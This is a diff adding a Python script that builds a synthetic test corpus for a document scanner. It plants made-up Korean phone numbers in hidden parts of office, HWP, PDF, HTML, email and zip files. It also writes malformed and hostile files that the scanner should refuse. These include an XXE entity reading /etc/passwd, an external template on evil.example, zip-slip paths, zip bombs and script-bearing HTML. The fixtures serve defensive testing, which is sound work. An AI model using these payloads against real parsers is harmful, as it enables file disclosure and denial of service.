@@ -1,0 +1,405 @@
+"""The corpus of documents: every format × every place where text can hide × every fault, made by this script.
+
+    make.py DIR     write all of them as files, with expected.json
+
+Nothing in it is of a real person: numbers, names and sentences are made here (CC0-1.0). `CASES` maps a file's name to a
+`Case`: what must be found in it, or the problem it must be refused with. `dev/` holds copies of the five development files.
+"""
+
+import base64
+import io
+import json
+import struct
+import sys
+import zipfile
+import zlib
+from dataclasses import dataclass
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).parent))
+
+import hwp5
+import pdfs
+from compound import compound
+from packages import docx, hwpx, pptx, xlsx, zipped
+
+_numbers = iter(range(1000, 9999))
+
+
+def phone():
+    return f"010-7{next(_numbers):04}"[:9] + f"-{next(_numbers):04}"
+
+
+def said():
+    """A sentence with one planted value, and the value."""
+    number = f"010-{next(_numbers):04}-{next(_numbers):04}"
+    return f"연락처 {number} 확인", number
+
+
+@dataclass(frozen=True)
+class Case:
+    content: bytes
+    find: tuple[str, ...] = ()
+    problem: str = ""
+    masks: bool = True  # a masked copy can be written
+
+
+CASES: dict[str, Case] = {}
+
+
+def place(name, build, *, masks=True):
+    """A document with one value in one place."""
+    text, value = said()
+    CASES[name] = Case(build(text), (value,), masks=masks)
+
+
+def fault(name, content, problem):
+    CASES[name] = Case(content, problem=problem)
+
+
+def text(words):
+    return words.encode()
+
+
+# ---------------------------------------------------------------- places
+
+for where in ("body", "split", "table", "nested_table", "header", "footer", "footnote", "endnote", "comment", "deleted",
+              "inserted", "textbox", "alt", "link", "field", "control", "vanish", "core", "custom", "custom_xml",
+              "comment_author", "xml_comment", "document_variable", "chart", "glossary"):  # fmt: skip
+    place(f"docx-{where}.docx", lambda words, where=where: docx({where: words}))
+place("docx-embedded-xlsx.docx", lambda words: docx({}, {"word/embeddings/book.xlsx": xlsx({"shared": words})}))
+for where in ("shared", "rich", "inline", "string_formula", "formula", "hidden_sheet", "hidden_row", "comment",
+              "threaded", "defined_name", "validation", "page_header", "drawing", "sheet_name", "pivot", "link",
+              "core", "second_sheet"):  # fmt: skip
+    place(f"xlsx-{where}.xlsx", lambda words, where=where: xlsx({where: words}))
+CASES["xlsx-number.xlsx"] = Case(xlsx({"number": "8001011234567"}), ("800101-1234567",))
+CASES["xlsx-date.xlsx"] = Case(xlsx({"date": "29221"}), ("1980-01-01",))
+for where in (
+    "slide",
+    "table",
+    "notes",
+    "hidden",
+    "comment",
+    "master",
+    "layout",
+    "alt",
+    "group",
+    "core",
+    "link",
+    "field",
+):
+    place(f"pptx-{where}.pptx", lambda words, where=where: pptx({where: words}))
+for where in ("body", "split", "table", "header", "footer", "footnote", "endnote", "memo", "hidden_comment", "textbox",
+              "caption", "equation", "link", "form", "deleted", "metadata", "preview", "masterpage", "shape_comment",
+              "cell_name", "bullet", "svg"):  # fmt: skip
+    place(f"hwpx-{where}.hwpx", lambda words, where=where: hwpx({where: words}), masks=where != "svg")
+for where in ("body", "table", "head", "foot", "fn  ", "en  ", "tcmt", "link", "equation", "preview", "summary"):
+
+    def made(words, where=where):
+        first = hwp5.paragraph("문서 본문", controls=[(2, b"secd")], after=hwp5.record(71, 1, b"dces" + b"\0" * 40))
+        more = {}
+        if where == "body":
+            first += hwp5.paragraph(words)
+        elif where == "table":
+            first += hwp5.paragraph("", controls=[(11, b"tbl ")], after=hwp5.table([["항목", "내용"], ["전화", words]]))
+        elif where == "link":
+            command = hwp5.utf16(words)
+            field = b"klh%" + struct.pack("<IBH", 0, 0, len(command) // 2) + command + struct.pack("<I", 1)
+            first += hwp5.paragraph("연결", controls=[(3, b"%hlk")], after=hwp5.record(71, 1, field))
+        elif where == "equation":
+            script = hwp5.utf16(words)
+            body = struct.pack("<IH", 0, len(script) // 2) + script + b"\0" * 12
+            first += hwp5.paragraph("수식", controls=[(11, b"eqed")], after=hwp5.record(71, 1, b"deqe" + b"\0" * 40)
+                                    + hwp5.record(88, 2, body))  # fmt: skip
+        elif where == "preview":
+            more["PrvText"] = hwp5.utf16(words)
+        elif where == "summary":
+            more["\x05HwpSummaryInformation"] = b"\xfe\xff\0\0" + b"\0" * 44 + hwp5.utf16(words) + b"\0\0"
+        else:
+            code = 16 if where in ("head", "foot") else 17 if where in ("fn  ", "en  ") else 15
+            first += hwp5.paragraph("본문", controls=[(code, where.encode())], after=hwp5.note(where.encode(), words))
+        return hwp5.hwp(first, more=more)
+
+    place(f"hwp-{where.strip()}.hwp", made)
+for where in ("page", "invisible", "field", "note", "link", "info", "outline", "metadata", "attachment", "annotation"):
+    place(f"pdf-{where}.pdf", lambda words, where=where: pdfs.pdf({where: words}))
+
+for encoding in ("utf-8", "utf-8-sig", "cp949", "utf-16", "utf-16-le", "utf-16-be", "utf-32"):
+
+    def encoded(words, encoding=encoding):
+        return f"민원 처리 결과\r\n{words}\r\n똠방각하\r\n".encode(encoding)
+
+    place(f"text-{encoding}.txt", encoded)
+place("text.csv", lambda words: f"번호,비고\r\n1,{words}\r\n".encode("cp949"))
+place("text.md", lambda words: f"# 보고\n\n| 가 | 나 |\n|---|---|\n| 1 | {words} |\n".encode())
+PAGE = "<!doctype html><html lang='ko'><head><title>{title}</title>{head}</head><body><p>본문</p>{body}</body></html>"
+for where, form in {
+    "body": "<p>{}</p>",
+    "table": "<table><tr><th>비고</th></tr><tr><td>{}</td></tr></table>",
+    "alt": "<img src='a.png' alt='{}'>",
+    "comment": "<!-- {} -->",
+    "hidden": "<input type=hidden name=a value='{}'>",
+    "split": "<p>{0[0]}<b>{0[1]}</b></p>",
+    "link": "<a href='https://example.go.kr/?q={}'>연결</a>",
+    "data": "<p data-memo='{}'>글</p>",
+    "invisible": "<p style='display:none'>{}</p>",
+    "cdata": "<p><![CDATA[{}]]></p>",
+    "entity": "<p>{}</p>",
+}.items():
+
+    def page(words, where=where, form=form):
+        if where == "split":
+            body = form.format((words[:8], words[8:]))
+        elif where == "entity":
+            body = form.format("".join(f"&#{ord(c)};" for c in words))
+        else:
+            body = form.format(words)
+        return PAGE.format(title="제목", head="", body=body).encode()
+
+    place(f"html-{where}.html", page, masks=False)
+place("html-title.html", lambda words: PAGE.format(title=words, head="", body="").encode(), masks=False)
+place(
+    "html-meta.html",
+    lambda w: PAGE.format(title="제목", head=f"<meta name=description content='{w}'>", body="").encode(),
+    masks=False,
+)
+place(
+    "html-euckr.htm",
+    lambda w: PAGE.format(title="가", head="<meta charset=euc-kr>", body=w).encode("cp949"),
+    masks=False,
+)
+
+
+def mail(*, headers="", parts=(), body="본문입니다"):
+    lines = [
+        "From: office@example.go.kr",
+        "To: desk@example.go.kr",
+        "Subject: =?utf-8?b?" + base64.b64encode("민원".encode()).decode() + "?=",
+    ]
+    if headers:
+        lines.append(headers)
+    lines += ["MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b1"', "", "--b1", "Content-Type: text/plain; charset=utf-8",
+              "Content-Transfer-Encoding: 8bit", "", body]  # fmt: skip
+    for part in parts:
+        lines += ["--b1", part]
+    return "\r\n".join([*lines, "--b1--", ""]).encode()
+
+
+def part(kind, content, *, name="", inline=False):
+    where = "inline" if inline else f'attachment; filename="{name}"' if name else "inline"
+    body = base64.encodebytes(content).decode().replace("\n", "\r\n")
+    return f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: {where}\r\n\r\n{body}"
+
+
+def word64(words, charset="utf-8"):
+    return f"=?{charset}?b?{base64.b64encode(words.encode('cp949' if charset == 'euc-kr' else charset)).decode()}?="
+
+
+place("eml-body.eml", lambda w: mail(body=w), masks=False)
+place("eml-subject.eml", lambda w: mail(headers="Comments: " + word64(w)), masks=False)
+place("eml-header-euckr.eml", lambda w: mail(headers="X-Memo: " + word64(w, "euc-kr")), masks=False)
+place("eml-html.eml", lambda w: mail(parts=[part("text/html; charset=utf-8", f"<p>{w}</p>".encode())]), masks=False)
+place("eml-euckr.eml", lambda w: mail(parts=[part("text/plain; charset=euc-kr", w.encode("cp949"))]), masks=False)
+place("eml-text.eml", lambda w: mail(parts=[part("text/plain", w.encode("cp949"), name="a.txt")]), masks=False)
+place(
+    "eml-docx.eml",
+    lambda w: mail(parts=[part("application/octet-stream", docx({"footnote": w}), name="a.docx")]),
+    masks=False,
+)
+place(
+    "eml-hwpx.eml",
+    lambda w: mail(parts=[part("application/octet-stream", hwpx({"memo": w}), name="a.hwpx")]),
+    masks=False,
+)
+place(
+    "eml-zip.eml",
+    lambda w: mail(parts=[part("application/zip", zipped({"a.txt": w.encode()}), name="a.zip")]),
+    masks=False,
+)
+place(
+    "eml-forwarded.eml",
+    lambda w: mail(parts=["Content-Type: message/rfc822\r\n\r\n" + mail(body=w).decode().replace("b1", "b2")]),
+    masks=False,
+)
+place("eml-filename.eml", lambda w: mail(parts=[part("text/plain", b"text", name=word64(w))]), masks=False)
+place("zip-text.zip", lambda w: zipped({"폴더/가.txt": w.encode()}), masks=False)
+place("zip-docx.zip", lambda w: zipped({"a.docx": docx({"comment": w})}), masks=False)
+place("zip-zip.zip", lambda w: zipped({"b.zip": zipped({"a.csv": w.encode()})}), masks=False)
+place("zip-name.zip", lambda w: zipped({f"{w}.txt": b"text"}), masks=False)
+
+# ---------------------------------------------------------------- faults
+
+LONG = "가나다라 마바사 " * 400
+whole = {
+    "docx": docx({"body": LONG}), "xlsx": xlsx({"shared": LONG}), "pptx": pptx({"slide": LONG}), "hwpx": hwpx({"body": LONG}),
+    "hwp": hwp5.hwp(hwp5.paragraph(LONG)), "pdf": pdfs.pdf({"page": "long text " * 50}), "zip": zipped({"a.txt": LONG.encode()}),
+}  # fmt: skip
+for kind, content in whole.items():
+    fault(f"cut.{kind}", content[: len(content) * 2 // 3], "damaged")
+    flipped = bytearray(content)
+    flipped[len(content) // 2 : len(content) // 2 + 40] = b"\xaa" * 40
+    if kind not in ("pdf", "hwp"):
+        fault(f"flipped.{kind}", bytes(flipped), "damaged")
+fault("cut.eml", mail(parts=[part("text/plain", b"abc", name="a.txt")])[:-12], "damaged")
+fault(
+    "base64.eml", mail(parts=["Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!=="]), "damaged"
+)
+fault("encrypted.docx", compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"y" * 200}), "encrypted")
+fault("encrypted.zip", zipped({"a.txt": b"text"}, flags=1), "encrypted")
+fault(
+    "encrypted.hwpx",
+    hwpx({}, {"META-INF/manifest.xml": b"<odf:manifest xmlns:odf='u'><odf:encryption-data/></odf:manifest>"}),
+    "encrypted",
+)
+fault("encrypted.pdf", pdfs.pdf({"page": "a"}, encrypted=True), "encrypted")
+fault("encrypted.eml", mail().replace(b"multipart/mixed", b"application/pkcs7-mime"), "encrypted")
+fault("password.hwp", hwp5.hwp(hwp5.paragraph("글"), flags=3), "encrypted")
+fault(
+    "distribution.hwp", hwp5.hwp(hwp5.paragraph("글"), flags=5, more={"ViewText/Section0": b"x" * 300}), "distribution"
+)
+fault(
+    "history.hwp", hwp5.hwp(hwp5.paragraph("글"), flags=1, more={"DocHistory/VersionLog0": b"x" * 300}), "unread_part"
+)
+fault(
+    "object.hwp",
+    hwp5.hwp(hwp5.paragraph("글"), more={"BinData/BIN0001.OLE": hwp5.deflated(b"object" * 50)}),
+    "unread_part",
+)
+fault(
+    "script.hwp",
+    hwp5.hwp(
+        hwp5.paragraph("글"),
+        more={"Scripts/DefaultJScript": hwp5.deflated(hwp5.utf16("function OnDocument_Open(){ run('x'); }"))},
+    ),
+    "script",
+)
+fault("word.doc", compound({"WordDocument": b"x" * 5000}), "unknown_type")
+fault("other.hwp", compound({"Something": b"x" * 5000}), "unknown_type")
+fault("macro.docm", docx({"body": "글"}, kind="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro")
+fault("macro.docx", docx({"body": "글"}, {"word/vbaProject.bin": b"x" * 100}), "macro")
+fault("active.xlsx", xlsx({"shared": "글"}, {"xl/activeX/activeX1.xml": b"<a/>"}), "macro")
+fault(
+    "object.docx",
+    docx({"body": "글"}, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 100}),
+    "unread_part",
+)
+fault("object.hwpx", hwpx({"body": "글"}, {"BinData/ole1.ole": b"\xd0\xcf\x11\xe0" + b"x" * 100}), "unread_part")
+fault(
+    "template.docx",
+    docx(
+        {"body": "글"},
+        {
+            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+        },
+    ),
+    "external",
+)
+fault(
+    "entities.docx",
+    docx({}, {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'}),
+    "entities",
+)
+fault(
+    "entities.hwpx",
+    hwpx({}, {"Contents/section0.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
+    "entities",
+)
+fault("entities.html", b"<!doctype html [<!ENTITY a 'b'>]><html><body>a</body></html>", "entities")
+fault("deep.docx", docx({}, {"word/document.xml": b"<a>" * 5000 + b"</a>" * 5000}), "too_deep")
+fault("script.html", b"<html><body><p>a</p><script>run()</script></body></html>", "script")
+fault("onload.html", b"<html><body onload='run()'><p>a</p></body></html>", "script")
+fault("href.html", b"<html><body><a href=' javascript:run()'>a</a></body></html>", "script")
+fault(
+    "script.hwpx",
+    hwpx({"body": "글"}, {"Scripts/sourceScripts": "function OnDocument_Open(){ run(); }".encode("utf-16-le")}),
+    "script",
+)
+fault("script.pdf", pdfs.pdf({"page": "a", "script": "app.alert(1)"}), "script")
+fault("launch.pdf", pdfs.pdf({"page": "a", "launch": "x"}), "script")
+fault("xfa.pdf", pdfs.pdf({"page": "a", "xfa": "x"}), "unread_part")
+fault("scan.pdf", pdfs.pdf({"image": "x"}), "image_only")
+fault("half-scanned.pdf", pdfs.pdf({"page": "first page", "image": "x"}), "image_only")
+PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
+)
+fault("picture.png", PNG, "image_only")
+fault("picture.txt", PNG, "image_only")
+fault("scan.docx", docx({"empty": "x"}, {"word/media/image1.png": PNG}), "image_only")
+fault("scan.zip", zipped({"a.png": PNG}), "image_only")
+fault("scan.eml", mail(parts=[part("image/png", PNG, name="a.png")]), "image_only")
+fault("empty.txt", b"", "no_text")
+fault("blank.txt", b" \r\n\t", "no_text")
+fault("zeros.txt", b"\x00" * 10_000, "no_text")
+fault("empty.docx", docx({"empty": "x"}), "no_text")
+fault("empty.zip", zipped({}), "no_text")
+fault("lying.docx", whole["pdf"], "lying_type")
+fault("lying.pdf", whole["docx"], "lying_type")
+fault("lying.xlsx", whole["docx"], "lying_type")
+fault("lying.txt", whole["zip"], "lying_type")
+fault("lying.hwp", whole["hwpx"], "lying_type")
+fault("lying.png", whole["docx"], "lying_type")
+fault("program.docx", b"MZ" + b"\x90" * 500, "unknown_type")
+fault("program.zip", zipped({"a.exe": b"MZ" + b"\x90" * 500}), "unknown_type")
+fault("packed.7z", b"7z\xbc\xaf\x27\x1c" + b"x" * 100, "unknown_type")
+fault("rich.rtf", b"{\\rtf1 text}", "unknown_type")
+fault("binary.txt", bytes(range(256)) * 20, "wrong_encoding")
+fault("halfway.txt", ("글자 " * 200).encode() + b"\x00\x01\x02\xff" * 200, "wrong_encoding")
+fault("halfway.csv", ("글자 " * 200).encode() + "이어지는 글".encode("cp949"), "wrong_encoding")
+fault("charset.eml", mail().replace(b"charset=utf-8", b"charset=ebcdic-x"), "wrong_encoding")
+fault(
+    "encoding.docx",
+    docx({}, {"word/document.xml": b"<?xml version='1.0' encoding='utf-7'?><a>+AGEAYg-\xff</a>"}),
+    "wrong_encoding",
+)
+fault("unclosed.docx", docx({}, {"word/document.xml": b"<a><b>text</a>"}), "damaged")
+fault("unknown.docx", docx({"body": "글"}, {"word/secret.dat": b"hidden text"}), "unread_part")
+fault("override.zip", zipped({"fdp\u202etxt.exe": b"text"}), "bad_name")
+fault("path.zip", zipped({"../../etc/cron.d/a.txt": b"text"}), "bad_name")
+fault("absolute.zip", zipped({"/etc/a.txt": b"text"}), "bad_name")
+fault("backslash.zip", zipped({"a\\b.txt": b"text"}), "bad_name")
+fault("twice.zip", zipped([("a.txt", b"text"), ("A.TXT", b"other")]), "bad_name")
+fault("bomb.zip", zipped({"a.txt": b"0" * (12 * 1024 * 1024)}), "ratio")
+fault("bomb.hwpx", hwpx({}, {"Contents/section1.xml": b"<a>" + b"0" * (12 * 1024 * 1024) + b"</a>"}), "ratio")
+fault("bomb.hwp", hwp5.hwp(b"\x00" * (12 * 1024 * 1024)), "ratio")
+inner = zipped({"a.txt": b"text"})
+for _ in range(6):
+    inner = zipped({"a.zip": inner})
+fault("nested.zip", inner, "too_deep")
+fault("members.zip", zipped({f"{n}.txt": b"a" for n in range(4100)}), "too_many")
+
+
+def liar():
+    """A directory that says a member is small, before data that is not."""
+    content = bytearray(zipped({"a.txt": b"0" * 100_000}))
+    at = content.rindex(b"PK\x01\x02")
+    content[at + 24 : at + 28] = struct.pack("<I", 10)
+    return bytes(content)
+
+
+fault("lying-size.zip", liar(), "damaged")
+
+
+def overlapping():
+    """Many names for the same bytes."""
+    sink = io.BytesIO()
+    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as out:
+        out.writestr("a.txt", b"0" * 5000)
+        again = zipfile.ZipInfo("b.txt")
+        first = out.filelist[0]
+        for field in ("CRC", "compress_size", "file_size", "compress_type", "header_offset", "flag_bits"):
+            setattr(again, field, getattr(first, field))
+        out.filelist.append(again)
+    return sink.getvalue()
+
+
+fault("overlap.zip", overlapping(), "damaged")
+fault("trailing.hwp", hwp5.hwp(hwp5.paragraph("글") + b"\x43\x04"), "damaged")
+
+if __name__ == "__main__":
+    folder = Path(sys.argv[1])
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, case in CASES.items():
+        (folder / name).write_bytes(case.content)
+    rows = {name: {"find": case.find, "problem": case.problem} for name, case in CASES.items()}
+    (folder / "expected.json").write_text(json.dumps(rows, ensure_ascii=False, indent=1))
+    print(f"{len(rows)} files; {zlib.crc32(json.dumps(rows).encode()):08x}")
